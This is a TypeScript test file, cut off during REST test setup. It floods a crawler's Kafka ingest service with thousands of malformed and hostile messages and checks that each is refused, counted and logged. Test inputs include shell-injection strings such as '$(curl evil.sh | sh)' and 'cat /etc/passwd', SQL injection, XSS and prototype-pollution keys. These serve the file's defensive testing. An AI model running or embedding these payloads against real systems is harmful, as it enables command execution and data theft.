/**
 * Bad input against the real stack: the ingest service under a flood of malformed Kafka messages
 * interleaved with valid crawl requests, and the REST service under every kind of garbage HTTP request.
 * Neither may crash, stall or change anything for bad input; every refusal is counted and logged with a
 * reason (ingest) or answered with a clear 4xx in the documented wrapper (REST).
 *
 * Tests that pinned product defects found here (bounded reasons, body-parser errors, deep JSON, empty bodies) now pass.
 */
import { connect, type AddressInfo, type Socket } from "node:net";
import { Readable } from "node:stream";
import type { Redis } from "ioredis";
import { ConfigResourceTypes, Kafka, logLevel } from "kafkajs";
import type { ServiceBroker } from "moleculer";
import { request, type Dispatcher } from "undici";
import type { Settings } from "../../../config/index.ts";
import { MESSAGES } from "../../../lib/api/responses.ts";
import { excerpt } from "../../../lib/ingest/process.ts";
import { KafkaClient, type OutgoingMessage } from "../../../lib/kafka/client.ts";
import { RedisMixin } from "../../../mixins/redis.mixin.ts";
import ApiService from "../../../services/api.service.ts";
import IngestService from "../../../services/ingest.service.ts";
import { captureLogger, eventually, testBroker, testSettings, uniqueName, type CapturedLine } from "../../support/cluster.ts";
// The benchmark site's seeded PRNG (mulberry32), so a failing flood can be replayed.
import { prng } from "../../../bench/site.ts";

/**
 * A Redis database of this file's own: the window counter `stats:kafka-monitor:fail:900` is global to a
 * database, and other test files refuse messages in database 9 at the same time.
 */
const REDIS_DB = 14;
const quietLog = { error: () => undefined, warn: () => undefined, info: () => undefined, debug: () => undefined };
const sleep = (ms: number) => new Promise(r => setTimeout(r, ms));


const STACK_TRACE = /\n\s+at |node_modules|\.ts:\d+|\.js:\d+|RangeError|TypeError|SyntaxError/;

/** Processes must not be polluted by `__proto__` keys anywhere in the input. */
const polluted = () => ({}) as Record<string, unknown>;

// ---------------------------------------------------------------------------------------------------
// 1. Ingest under a flood of garbage
// ---------------------------------------------------------------------------------------------------

const REFUSALS = ["Unparseable JSON Received", "Did not find schema to validate request", "Refused request"] as const;
type Refusal = (typeof REFUSALS)[number] | "poison";

interface BadMessage {
	category: string;
	value: string | Buffer | null;
	expect: Refusal;
	/** What the logged reason (data.reason, or data.reasons joined) must contain. */
	reason: RegExp;
}

interface ValidCrawl {
	url: string;
	appid: string;
	crawlid: string;
	/** JSON text of attrs, when it must be sent as written (a `__proto__` key). */
	attrsJson?: string;
}

const textOf = (value: string | Buffer | null) => (value === null ? "" : Buffer.isBuffer(value) ? value.toString("utf8") : value);

/** The ~3000 malformed messages, by category. `spider` goes into crawl-shaped ones so accidental acceptance shows. */
function badMessages(spider: string, rnd: () => number): BadMessage[] {
	const out: BadMessage[] = [];
	const add = (category: string, expect: Refusal, reason: RegExp, value: string | Buffer | null) => out.push({ category, value, expect, reason });
	const crawl = (extra: Record<string, unknown>) => JSON.stringify({ url: "http://bad.example.com/", appid: "testapp", crawlid: "bad", spiderid: spider, ...extra });
	const anyReason = /\S/;

	// not JSON
	const notJson = [
		(i: number) => `{not json ${i}`,
		(i: number) => `{'url': 'http://a.com/${i}', 'appid': 'testapp', 'crawlid': 'x'}`,
		(i: number) => `{"url": "http://a.com/${i}", "appid": "testapp", "crawlid": "x",}`,
		(i: number) => `undefined ${i}`,
		(i: number) => `{"url": "http://a.com/", "crawlid": "c${i}", "priority": NaN}`,
		(i: number) => `{"a": ${i}`,
		(i: number) => `<request id="${i}"/>`,
		(i: number) => `\ufeff{"url": "http://a.com/", "appid": "testapp", "crawlid": "bom${i}"}`,
		(i: number) => `{"url": "http://a.com/\u0001${i}"}`,
		(i: number) => `${i}}{`
	];
	for (let i = 0; i < 450; i++) add("not JSON", "Unparseable JSON Received", /JSON|token|Expected|Unterminated|control|position/i, notJson[i % notJson.length]!(i));

	// random binary bytes (a 0xff first byte is never valid JSON)
	for (let i = 0; i < 400; i++) {
		const bytes = Buffer.alloc(1 + Math.floor(rnd() * 1500));
		for (let j = 0; j < bytes.length; j++) bytes[j] = Math.floor(rnd() * 256);
		bytes[0] = 0xff;
		add("random binary", "Unparseable JSON Received", anyReason, bytes);
	}

	// empty values (tombstones are sent separately: KafkaClient cannot send a null value)
	for (let i = 0; i < 60; i++) add("empty value", "Unparseable JSON Received", /^empty message$/, i % 2 ? "" : Buffer.alloc(0));
	for (let i = 0; i < 10; i++) add("null value (tombstone)", "Unparseable JSON Received", /^empty message$/, null);

	// deeply nested JSON
	for (let i = 0; i < 10; i++) add("deep array (10000 levels)", "Refused request", /nested deeper than 64 levels/, `${"[".repeat(10000)}${i}${"]".repeat(10000)}`);
	for (let i = 0; i < 2; i++) add("deep array (100000 levels)", "Refused request", /nested deeper than 64 levels/, `${"[".repeat(100000)}${i}${"]".repeat(100000)}`);
	for (let i = 0; i < 10; i++) add("deep unterminated", "Unparseable JSON Received", anyReason, `${"[".repeat(10000)}${i}`);
	for (let i = 0; i < 10; i++) add("deep object", "Refused request", /nested deeper than 64 levels/, `${'{"a":'.repeat(10000)}${i}${"}".repeat(10000)}`);
	// Valid in shape (attrs is any object) but too deep to serialize: the handler fails, and is given up as poison.
	add("deep attrs in a crawl request", "Refused request", /nested deeper than 64 levels/, crawl({ crawlid: "deep-attrs", attrs: "__DEEP__" }).replace('"__DEEP__"', `${'{"a":'.repeat(50000)}1${"}".repeat(50000)}`));

	// wrong types, one field at a time, for every field of every kind
	const strWrong: unknown[] = [7, 1.5, true, [], {}, null, ["a"]];
	const intWrong: unknown[] = ["7", 1.5, true, [], {}, null];
	const arrWrong: unknown[] = ["a.com", 7, {}, true, null, [1], [null], ["a", "a"]];
	// [field that carries a per-message marker, the one used when that field itself is the wrong one]
	const kinds: Array<{ base: Record<string, unknown>; markers: [string, string]; fields: Record<string, unknown[]> }> = [
		{
			base: { url: "http://wrongtype.example.com/", appid: "testapp", crawlid: "c", spiderid: spider },
			markers: ["url", "crawlid"],
			fields: {
				url: strWrong,
				appid: [...strWrong, "ab", "a".repeat(41)],
				crawlid: [...strWrong, "", "c".repeat(41)],
				spiderid: strWrong,
				priority: [...intWrong, 0, 101],
				maxdepth: [...intWrong, -1, 4],
				domain_max_pages: [...intWrong, 2001],
				allowed_domains: arrWrong,
				allow_regex: arrWrong,
				deny_regex: arrWrong,
				deny_extensions: arrWrong,
				expires: intWrong,
				useragent: [...strWrong, "ab"],
				cookie: [...strWrong, "ab"],
				attrs: ["x", 7, [], true, null]
			}
		},
		{
			base: { action: "info", appid: "testapp", uuid: "u", spiderid: spider, crawlid: "c" },
			markers: ["uuid", "appid"],
			fields: { action: [7, "INFO", "explode", [], null], appid: strWrong, uuid: [...strWrong, ""], spiderid: strWrong, crawlid: strWrong }
		},
		{ base: { uuid: "u", appid: "testapp", stats: "all" }, markers: ["uuid", "appid"], fields: { uuid: strWrong, appid: strWrong, stats: [7, "everything", [], null] } },
		{
			base: { uuid: "u", appid: "testapp", action: "domain-update", domain: "example.com", hits: 10, window: 60, scale: 0.5 },
			markers: ["uuid", "appid"],
			fields: { uuid: strWrong, appid: strWrong, action: [7, "domain-nuke", null], domain: strWrong, hits: intWrong, window: intWrong, scale: ["0.5", 2, -1, [], null, true] }
		}
	];
	let n = 0;
	for (let round = 0; round < 3; round++)
		for (const kind of kinds)
			for (const [field, wrongs] of Object.entries(kind.fields))
				for (const wrong of wrongs) {
					const marker = field === kind.markers[0] ? kind.markers[1] : kind.markers[0];
					const id = n++;
					const mark = marker === "url" ? `http://wrongtype.example.com/${id}` : `${marker.slice(0, 1)}${id}x`;
					add(`wrong type (${field})`, "Did not find schema to validate request", new RegExp(`'${field}|forbidden`), JSON.stringify({ ...kind.base, [marker]: mark, [field]: wrong }));
				}
	// every field wrong at once
	for (let i = 0; i < 40; i++)
		add("wrong type (every field)", "Did not find schema to validate request", anyReason, JSON.stringify({ url: i, appid: [i], crawlid: { i }, spiderid: true, priority: "high", maxdepth: null, attrs: "x", uuid: 5, action: [], stats: {}, domain: 1.5 }));

	// unknown request kinds and values that are no object
	const unknown = [
		(i: number) => ({ action: "explode", appid: "testapp", uuid: `u${i}`, spiderid: spider }),
		(i: number) => ({ action: "delete", appid: "testapp", uuid: `u${i}`, spiderid: spider, crawlid: "c" }),
		(i: number) => ({ uuid: `u${i}`, appid: "testapp", stats: "everything" }),
		(i: number) => ({ uuid: `u${i}`, appid: "testapp", action: "domain-nuke", domain: "example.com" }),
		(i: number) => ({ type: "crawl", url: `http://a.com/${i}` }),
		(i: number) => ({ hello: `world${i}` }),
		(i: number) => ({ uuid: `u${i}` }),
		() => ({}),
		(i: number) => i,
		(i: number) => `a string ${i}`,
		() => null,
		(i: number) => i % 2 === 0,
		(i: number) => [{ url: "http://a.com/", appid: "testapp", crawlid: `arr${i}` }]
	];
	for (let i = 0; i < 260; i++) add("unknown request kind", "Did not find schema to validate request", anyReason, JSON.stringify(unknown[i % unknown.length]!(i)));

	// hostile ids: characters that break key formats, in every id of every kind
	const hostileChars = [":", "*", "?", "[", "]", "\\", "\u0000", "\n", "\t", "\u001b", "\u007f", "||"];
	const idFields: Array<(v: string, i: number) => string> = [
		(v, i) => crawl({ crawlid: `c${i}${v}x`, url: `http://hostile.example.com/${i}` }),
		(v, i) => crawl({ appid: `app${v}${i}`, crawlid: `c${i}` }),
		(v, i) => JSON.stringify({ action: "info", appid: `app${v}${i}`, uuid: `u${i}`, spiderid: spider }),
		(v, i) => JSON.stringify({ action: "stop", appid: "testapp", crawlid: `c${v}${i}`, uuid: `u${i}`, spiderid: spider }),
		(v, i) => JSON.stringify({ uuid: `u${i}`, appid: `app${v}${i}`, stats: "all" }),
		(v, i) => JSON.stringify({ uuid: `u${i}`, appid: `app${v}${i}`, action: "domain-remove", domain: "example.com" })
	];
	let h = 0;
	for (let round = 0; round < 7; round++)
		for (const v of hostileChars)
			for (const make of idFields) add("hostile id", "Refused request", /breaks Redis key formats|separator of blacklist entries/, make(v, h++));
	const hostileSpiders = ["a:b", "../../etc", "a b", "*", "x\u0000", "x".repeat(65), "spider;rm -rf /", "$(id)", "\u202espider", "spi\u200bder"];
	for (let round = 0; round < 3; round++)
		for (const s of hostileSpiders) {
			add("hostile spiderid", "Refused request", /spiderid .* must be 1-64 letters/, crawl({ spiderid: s, crawlid: `s${h++}` }));
			add("hostile spiderid", "Refused request", /spiderid .* must be 1-64 letters/, JSON.stringify({ action: "info", appid: "testapp", uuid: `u${h++}`, spiderid: s }));
		}
	const hostileDomains = ["*", "a b", "a\u0000b", "[x]", "exa?mple.com", "", "\t"];
	for (let round = 0; round < 4; round++)
		for (const d of hostileDomains) add("hostile domain", "Refused request", /domain .* must be a non-empty host name/, JSON.stringify({ uuid: `z${h++}`, appid: "testapp", action: "blacklist-update", domain: d }));

	// 100 KB strings
	const k100 = (c: string) => c.repeat(100 * 1024);
	for (let i = 0; i < 3; i++) {
		add("100 KB string", "Did not find schema to validate request", /'crawlid' field length/, crawl({ crawlid: `${i}${k100("c")}` }));
		add("100 KB string", "Did not find schema to validate request", /'appid' field length/, crawl({ appid: `${i}${k100("a")}` }));
		add("100 KB string", "Did not find schema to validate request", /'uuid' field length/, JSON.stringify({ action: "info", appid: "testapp", uuid: `${i}${k100("u")}`, spiderid: spider }));
		add("100 KB string", "Refused request", /spiderid .* must be 1-64 letters/, crawl({ crawlid: `k${i}`, spiderid: `${i}${k100("!")}` }));
		add("100 KB string", "Refused request", /only http and https/, crawl({ crawlid: `k${i}`, url: `javascript:${i}${k100("a")}` }));
		add("100 KB string", "Refused request", /does not compile/, crawl({ crawlid: `k${i}`, allow_regex: [`${i}${k100("(")}`] }));
		add("100 KB string", "Refused request", /domain .* must be a non-empty host name/, JSON.stringify({ uuid: `k${i}`, appid: "testapp", action: "domain-remove", domain: `${i}${k100("*")}` }));
		add("100 KB string", "Did not find schema to validate request", /forbidden keys/, JSON.stringify({ [`${i}${k100("k")}`]: 1 }));
	}

	// hostile URLs
	const hostileUrls = [
		["javascript:alert(1)", /only http and https/],
		["JaVaScRiPt:alert(document.cookie)", /only http and https/],
		["vbscript:msgbox(1)", /only http and https/],
		["data:text/html,<script>alert(1)</script>", /only http and https/],
		["file:///etc/passwd", /only http and https/],
		["ftp://example.com/file", /only http and https/],
		["mailto:root@example.com", /only http and https/],
		["about:blank", /only http and https/],
		["ws://example.com/socket", /only http and https/],
		["gopher://example.com/", /only http and https/],
		["http://exa\u202emple.com/", /is not an absolute URL/],
		["\u202ehttp://example.com/", /is not an absolute URL/],
		["http://exa mple.com/", /is not an absolute URL/],
		["http://exa\u0000mple.com/", /is not an absolute URL/],
		["", /is not an absolute URL/],
		["http://", /is not an absolute URL/],
		["//example.com/x", /is not an absolute URL/],
		["http://user:pw@example.com:99999/", /is not an absolute URL/],
		["http://[::1/", /is not an absolute URL/],
		["'; DROP TABLE urls;--", /is not an absolute URL/],
		["$(curl evil.sh | sh)", /is not an absolute URL/]
	] as const;
	for (let round = 0; round < 14; round++)
		for (const [url, reason] of hostileUrls) add("hostile url", "Refused request", reason, crawl({ url, crawlid: `u${h++}` }));

	// __proto__ / constructor keys at the top level (the text is sent as written: JSON.stringify would drop them)
	const proto = [
		(i: number) => `{"__proto__": {"polluted": "yes"}, "url": "http://proto.example.com/", "appid": "testapp", "crawlid": "p${i}", "spiderid": "${spider}"}`,
		(i: number) => `{"__proto__": {"url": "http://proto.example.com/", "appid": "testapp", "crawlid": "p${i}"}}`,
		(i: number) => `{"constructor": {"prototype": {"polluted": "yes"}}, "url": "http://proto.example.com/", "appid": "testapp", "crawlid": "p${i}"}`,
		(i: number) => `{"action": "info", "appid": "testapp", "uuid": "p${i}", "spiderid": "${spider}", "__proto__": {"polluted": "yes"}}`,
		(i: number) => `{"uuid": "p${i}", "appid": "testapp", "prototype": {"polluted": "yes"}}`
	];
	for (let i = 0; i < 100; i++) add("__proto__ key", "Did not find schema to validate request", /forbidden keys: .*(__proto__|constructor|prototype)/, proto[i % proto.length]!(i));

	// values the schemas accept but the refusal checks do not
	const regexes = ["((", "[a-", "*", "(?<", "\\", "+", "a{2,1}"];
	for (let i = 0; i < 49; i++)
		add("regex that does not compile", "Refused request", /does not compile/, crawl({ crawlid: `r${i}`, [i % 2 ? "deny_regex" : "allow_regex"]: [regexes[i % regexes.length]] }));
	for (let i = 0; i < 50; i++)
		add("domain-update without hits/window", "Refused request", /'hits' and 'window' not set/, JSON.stringify({ uuid: `d${i}`, appid: "testapp", action: "domain-update", domain: "example.com", ...(i % 2 ? { hits: 0 } : { window: 60 }) }));
	return out;
}

/** ~300 valid crawl requests: plain ones and some with hostile-looking but allowed values. */
function validCrawls(count: number): ValidCrawl[] {
	const tlds = ["com", "org", "net", "io", "co.uk"];
	const hostile: ValidCrawl[] = [
		{ url: "http://sql.example.com/?q=1'%20OR%20'1'='1", appid: "testapp", crawlid: "1'; DROP TABLE crawls;--" },
		{ url: "http://shell.example.com/$(rm -rf /)", appid: "testapp", crawlid: "$(rm -rf /)" },
		{ url: "http://shell.example.com/`id`", appid: "testapp", crawlid: "`id`; cat /etc/passwd" },
		{ url: "http://xss.example.com/<script>alert(1)</script>", appid: "testapp", crawlid: "<script>alert(1)</script>" },
		{ url: "http://rtl.example.com/\u202eevil", appid: "te\u202est", crawlid: "\u202eevil-rtl" },
		{ url: "http://zw.example.com/a\u200bb", appid: "testapp", crawlid: "zero\u200bwidth\u200d" },
		{ url: "http://exa\u200bmple.net/zero-width-host", appid: "testapp", crawlid: "zero-width-host" },
		{ url: "http://emoji.example.com/\u{1f4a5}", appid: "testapp", crawlid: "\u{1f4a5}\u{1f525}-emoji" },
		{ url: `http://long.example.com/${"a".repeat(100 * 1024)}`, appid: "testapp", crawlid: "100kb-url" },
		{ url: "http://proto.example.com/", appid: "testapp", crawlid: "proto-attrs", attrsJson: '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}' },
		{ url: "http://sql.example.org/", appid: "x'; DROP TABLE apps;--", crawlid: "sql-appid" },
		{ url: "http://pct.example.com/%00%3a%2a", appid: "testapp", crawlid: "%00%3a%2a%3f" },
		{ url: "http://pipe.example.com/", appid: "testapp", crawlid: "a|b" }
	];
	const plain = Array.from({ length: count - hostile.length }, (_, i) => ({
		url: `http://v${i}.site${i % 7}.example.${tlds[i % tlds.length]}/page?i=${i}`,
		appid: "testapp",
		crawlid: `valid-${i}`
	}));
	// hostile ones spread among the plain ones
	const all = [...plain];
	hostile.forEach((c, i) => all.splice(Math.floor(((i + 1) * all.length) / (hostile.length + 1)), 0, c));
	return all;
}

function crawlJson(c: ValidCrawl, spider: string, priority: number): string {
	const body = JSON.stringify({ url: c.url, appid: c.appid, crawlid: c.crawlid, spiderid: spider, priority, ...(c.attrsJson ? { attrs: "__ATTRS__" } : {}) });
	return c.attrsJson ? body.replace('"__ATTRS__"', c.attrsJson) : body;
}

interface IngestStatus {
	consuming: boolean;
	handled: number;
	refused: number;
}

describe("bad input: ingest under a flood of garbage", () => {
	const prefix = uniqueName("bad").replace(/-/g, "_");
	const spider = uniqueName("bad").replace(/-/g, "_");
	let settings: Settings;
	let producer: KafkaClient;
	let kafka: Kafka;
	let probe: ServiceBroker;
	let redis: Redis;
	let ingest: ServiceBroker;
	let lines: CapturedLine[];
	const status = () => ingest.call("ingest.status", {}, { timeout: 2000 }) as Promise<IngestStatus>;

	beforeAll(async () => {
		settings = testSettings({
			REDIS_DB,
			KAFKA_TOPIC_PREFIX: prefix,
			KAFKA_INCOMING_TOPIC: `${prefix}.incoming`,
			KAFKA_GROUP: `${prefix}-ingest`,
			KAFKA_INCOMING_PARTITIONS: 4,
			KAFKA_CONSUMER_COMMIT_INTERVAL_MS: 200
		});
		// The producer's own size check must not stop the 10 MB message before the broker sees it.
		producer = new KafkaClient({ ...settings, KAFKA_PRODUCER_MAX_REQUEST_SIZE: 11 * 1024 * 1024 }, "bad-input-producer", quietLog);
		kafka = new Kafka({ brokers: settings.KAFKA_HOSTS.split(","), clientId: "bad-input-admin", logLevel: logLevel.NOTHING });
		probe = testBroker(settings);
		const svc = probe.createService({ name: "redis-probe", mixins: [RedisMixin()] }) as unknown as { redis: Redis };
		await probe.start();
		redis = svc.redis;
		const captured = captureLogger();
		lines = captured.lines;
		ingest = testBroker(settings, { logger: captured.logger });
		ingest.createService(IngestService);
		await ingest.start();
		expect(await eventually(async () => (await status()).consuming, 30000)).toBe(true);
	}, 60000);

	afterAll(async () => {
		await ingest?.stop();
		const keys = await redis.keys(`*${spider}*`);
		if (keys.length) await redis.del(...keys);
		await producer?.close();
		const admin = kafka.admin();
		await admin.connect();
		await admin.deleteTopics({ topics: [settings.KAFKA_INCOMING_TOPIC], timeout: 10000 }).catch(() => undefined);
		await admin.deleteGroups([settings.KAFKA_GROUP]).catch(() => undefined);
		await admin.disconnect();
		await probe?.stop();
	}, 60000);

	it("never crashes or stalls, queues every valid request exactly once, and refuses, counts and logs every bad one", async () => {
		const t0 = Date.now();
		const topic = settings.KAFKA_INCOMING_TOPIC;
		const failKey = "stats:kafka-monitor:fail:900";
		const rnd = prng(0x5c1);
		const bad = badMessages(spider, rnd);
		const valid = validCrawls(300);

		// What the broker accepts per message (message.max.bytes, or the topic's max.message.bytes).
		const admin = kafka.admin();
		await admin.connect();
		const described = await admin.describeConfigs({ includeSynonyms: false, resources: [{ type: ConfigResourceTypes.TOPIC, name: topic, configNames: ["max.message.bytes"] }] });
		await admin.disconnect();
		const maxMessageBytes = Number(described.resources[0]?.configEntries.find(e => e.configName === "max.message.bytes")?.configValue);
		expect(maxMessageBytes).toBeGreaterThan(0);

		const before = await status();
		const failSince = Date.now() / 1000 - 0.001;
		const failBefore = await redis.zcount(failKey, "-inf", "+inf");

		// A 10 MB message; when the broker refuses it, the biggest one it takes instead (record batch overhead < 200 bytes).
		const tenMb = Buffer.alloc(10 * 1024 * 1024, "x");
		let biggest: { bytes: number; note: string };
		try {
			await producer.send(topic, [{ value: tenMb }]);
			bad.push({ category: "10 MB message", value: tenMb, expect: "Unparseable JSON Received", reason: /\S/ });
			biggest = { bytes: tenMb.length, note: "the broker took the 10 MB message" };
		} catch (err) {
			expect(10 * 1024 * 1024).toBeGreaterThan(maxMessageBytes);
			const size = maxMessageBytes - 200;
			const value = JSON.stringify({ url: "http://huge.example.com/", appid: "testapp", spiderid: spider, crawlid: "h" });
			const huge = value.replace('"h"', `"${"h".repeat(size - value.length + 1)}"`);
			expect(Buffer.byteLength(huge)).toBe(size);
			await producer.send(topic, [{ value: huge }]);
			bad.push({ category: "biggest message the broker takes", value: huge, expect: "Did not find schema to validate request", reason: /'crawlid' field length/ });
			biggest = { bytes: size, note: `the broker refused 10 MB (${(err as Error).message}); sent ${size} bytes instead (max.message.bytes ${maxMessageBytes})` };
		}

		// Interleave: about ten bad messages, then one valid request.
		const order: Array<{ value: string | Buffer | null; valid?: ValidCrawl }> = [];
		const shuffled = bad.filter(b => b.category !== "10 MB message" && b.category !== "biggest message the broker takes").sort(() => rnd() - 0.5);
		const perValid = Math.ceil(shuffled.length / valid.length);
		valid.forEach((v, i) => {
			for (const b of shuffled.slice(i * perValid, (i + 1) * perValid)) order.push({ value: b.value });
			order.push({ value: crawlJson(v, spider, 1 + Math.floor(rnd() * 100)), valid: v });
		});
		for (const b of shuffled.slice(valid.length * perValid)) order.push({ value: b.value });

		// Watch the service while it works: ingest.status must keep answering and the counts keep moving.
		let done = false;
		const watch = { polls: 0, failures: 0, maxLatencyMs: 0, maxGapMs: 0 };
		const watching = (async () => {
			let last = -1;
			let lastChange = Date.now();
			const end = Date.now() + 90000;
			while (!done && Date.now() < end) {
				const start = Date.now();
				try {
					const s = await status();
					watch.polls++;
					watch.maxLatencyMs = Math.max(watch.maxLatencyMs, Date.now() - start);
					const progress = s.handled + s.refused;
					if (progress !== last) {
						last = progress;
						lastChange = Date.now();
					}
					watch.maxGapMs = Math.max(watch.maxGapMs, Date.now() - lastChange);
				} catch {
					watch.failures++;
				}
				await sleep(200);
			}
		})();

		// Produce: small messages in batches, big ones (> 64 KB) alone; tombstones through kafkajs itself.
		let batch: OutgoingMessage[] = [];
		let batchBytes = 0;
		let tombstones = 0;
		const flush = async () => {
			if (batch.length) await producer.send(topic, batch);
			batch = [];
			batchBytes = 0;
		};
		const raw = kafka.producer();
		await raw.connect();
		for (const m of order) {
			if (m.value === null) {
				await flush();
				await raw.send({ topic, acks: -1, messages: [{ key: `tombstone-${tombstones++}`, value: null }] });
				continue;
			}
			const size = Buffer.byteLength(m.value);
			if (size > 64 * 1024) {
				await flush();
				await producer.send(topic, [{ value: m.value }]);
				continue;
			}
			batch.push({ value: m.value });
			batchBytes += size;
			if (batch.length >= 200 || batchBytes >= 256 * 1024) await flush();
		}
		await flush();
		await raw.disconnect();
		const sent = order.length + 1;
		const sentAt = Date.now();

		const expected = before.handled + before.refused + sent;
		const finished = await eventually(async () => {
			const s = await status();
			return s.handled + s.refused >= expected;
		}, 45000, 200);
		// nothing more trickles in afterwards
		await sleep(500);
		done = true;
		await watching;
		const after = await status();
		const handled = after.handled - before.handled;
		const refused = after.refused - before.refused;
		const failAdded = await redis.zcount(failKey, `(${failSince}`, "+inf");
		const failAfter = await redis.zcount(failKey, "-inf", "+inf");

		// What reached Redis: every valid crawlid exactly once, nothing else.
		const queues = await redis.keys(`${spider}:*:queue`);
		const members: Array<Record<string, unknown>> = [];
		for (const key of queues) for (const m of await redis.zrange(key, 0, -1)) members.push(JSON.parse(m) as Record<string, unknown>);
		const crawlids = new Set(members.map(m => m.crawlid as string));

		console.log(
			`ingest flood: messages sent ${sent}, handled ${handled}, refused ${refused} ` +
				`(${valid.length} valid, ${bad.length} malformed in ${new Set(bad.map(b => b.category)).size} kinds; ${biggest.note}); ` +
				`fail:900 +${failAdded} (${failBefore} -> ${failAfter}); queued ${members.length} members, ${crawlids.size} distinct crawlids in ${queues.length} queues; ` +
				`ingest.status answered ${watch.polls} polls (${watch.failures} failed, max ${watch.maxLatencyMs} ms), longest pause in progress ${watch.maxGapMs} ms; ` +
				`produced in ${((sentAt - t0) / 1000).toFixed(1)} s, all handled ${((Date.now() - sentAt) / 1000).toFixed(1)} s later`
		);

		expect(finished).toBe(true);
		expect(watch.failures).toBe(0);
		expect(watch.polls).toBeGreaterThan(5);
		expect(watch.maxLatencyMs).toBeLessThan(2000);
		// poison handling of the deep-attrs request retries for ~3 s; anything longer is a stall
		expect(watch.maxGapMs).toBeLessThan(10000);
		expect(after.consuming).toBe(true);
		expect(ingest.getLocalService("ingest")).toBeTruthy();

		expect(handled).toBe(valid.length);
		expect(refused).toBe(bad.length);
		expect(failAdded).toBe(bad.length);
		expect(members.length).toBe(valid.length);
		expect([...crawlids].sort()).toEqual(valid.map(v => v.crawlid).sort());

		// hostile-looking but valid values are stored exactly as sent
		for (const v of valid) {
			const stored = members.find(m => m.crawlid === v.crawlid)!;
			expect({ url: stored.url, appid: stored.appid, spiderid: stored.spiderid }).toEqual({ url: v.url, appid: v.appid, spiderid: spider });
		}
		expect(polluted().polluted).toBeUndefined();

		// Every bad message has its own warning line with the documented message and a reason.
		const byExcerpt = new Map<string, BadMessage[]>();
		for (const b of bad.filter(b => b.expect !== "poison")) {
			const key = excerpt(textOf(b.value));
			byExcerpt.set(key, [...(byExcerpt.get(key) ?? []), b]);
		}
		const logged = new Map<string, number>();
		const unmatched: string[] = [];
		const mismatched: string[] = [];
		const warnings = lines.filter(l => l.level === "warn");
		for (const line of warnings.filter(l => (REFUSALS as readonly string[]).includes(l.message))) {
			const candidates = byExcerpt.get(String(line.data.data ?? ""));
			const b = candidates?.shift();
			if (!b) {
				unmatched.push(`${line.message}: ${String(line.data.data).slice(0, 80)}`);
				continue;
			}
			const reason = line.data.reason !== undefined ? String(line.data.reason) : Object.values((line.data.reasons ?? {}) as Record<string, string>).join(" | ");
			if (line.message !== b.expect || !b.reason.test(reason)) mismatched.push(`${b.category}: expected ${b.expect} ${b.reason}, logged ${line.message}: ${reason.slice(0, 300)}`);
			logged.set(b.category, (logged.get(b.category) ?? 0) + 1);
		}
		const poisonLines = warnings.filter(l => l.message.startsWith("gave up after") && l.data.poison === true);
		for (const b of bad.filter(b => b.expect === "poison")) {
			const line = poisonLines.shift();
			if (line && b.reason.test(line.message)) logged.set(b.category, (logged.get(b.category) ?? 0) + 1);
			else mismatched.push(`${b.category}: no poison warning matching ${b.reason}`);
		}
		const notLogged = [...byExcerpt.values()].flat().map(b => b.category);
		expect(unmatched).toEqual([]);
		expect(mismatched).toEqual([]);
		expect(notLogged).toEqual([]);
		const perCategory = new Map<string, number>();
		for (const b of bad) perCategory.set(b.category, (perCategory.get(b.category) ?? 0) + 1);
		expect(Object.fromEntries(logged)).toEqual(Object.fromEntries(perCategory));
	}, 120000);

	it("keeps each refusal's log line bounded (LOG_EXCERPT_CHARS), whatever the size of the bad values", async () => {
		const topic = settings.KAFKA_INCOMING_TOPIC;
		const before = await status();
		const from = lines.length;
		const messages = [
			JSON.stringify({ [`key-${"k".repeat(100 * 1024)}`]: 1 }),
			JSON.stringify(Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`unknown_key_${i}`, i]))),
			JSON.stringify({ url: "http://a.example.com/", appid: "testapp", crawlid: "big-spider", spiderid: "!".repeat(100 * 1024) }),
			JSON.stringify({ url: "http://a.example.com/", appid: "testapp", crawlid: "big-regex", spiderid: spider, allow_regex: ["(".repeat(100 * 1024)] })
		];
		for (const value of messages) await producer.send(topic, [{ value }]);
		expect(await eventually(async () => (await status()).refused - before.refused >= messages.length, 20000)).toBe(true);
		const sizes = lines
			.slice(from)
			.filter(l => l.level === "warn" && (REFUSALS as readonly string[]).includes(l.message))
			.map(l => ({ message: l.message, bytes: JSON.stringify(l.data).length }));
		console.log(`refusal log line sizes for ${messages.map(m => m.length).join(", ")} byte messages: ${sizes.map(s => s.bytes).join(", ")} bytes`);
		expect(sizes).toHaveLength(messages.length);
		// an excerpt is at most LOG_EXCERPT_CHARS (2000); a reason should be no bigger
		for (const s of sizes) expect(s.bytes).toBeLessThanOrEqual(16 * 1024);
	}, 60000);
});

// ---------------------------------------------------------------------------------------------------
// 2. REST garbage
// ---------------------------------------------------------------------------------------------------

interface Answer {
	status: number;
	text: string;
	json: Record<string, unknown> | null;
}

type Body = string | Buffer | Readable | undefined;

async function hit(port: number, method: string, path: string, body?: Body, headers: Record<string, string> = {}): Promise<Answer> {
	const res = await request(`http://127.0.0.1:${port}${path}`, {
		method: method as Dispatcher.HttpMethod,
		body,
		headers,
		headersTimeout: 10000,
		bodyTimeout: 10000
	});
	const text = await res.body.text();
	let json: Record<string, unknown> | null = null;
	try {
		json = JSON.parse(text) as Record<string, unknown>;
	} catch {
		json = null;
	}
	return { status: res.statusCode, text, json };
}

/** Write raw bytes on a new connection; resolve with everything the server sent until it closed (bounded). */
function rawExchange(port: number, data: string | Buffer, timeoutMs = 5000): Promise<string> {
	return new Promise(resolve => {
		const chunks: Buffer[] = [];
		const socket = connect(port, "127.0.0.1", () => socket.write(data));
		const finish = () => {
			clearTimeout(timer);
			socket.destroy();
			resolve(Buffer.concat(chunks).toString("latin1"));
		};
		const timer = setTimeout(finish, timeoutMs);
		socket.on("data", c => chunks.push(c));
		socket.on("close", finish);
		socket.on("error", () => undefined);
	});
}

const JSON_CT = { "content-type": "application/json" };

describe("bad input: REST garbage", () => {
	const prefix = uniqueName("badrest").replace(/-/g, "_");
	let api: ServiceBroker;
	let lines: CapturedLine[];
	let port: number;
	const health = { checks: 0, ok: 0, maxMs: 0, bad: [] as string[] };
	let healthDone = false;
	let healthLoop: Promise<void>;

	beforeAll(async () => {
		const captured = captureLogger();
		lines = captured.lines;
		api = testBroker(
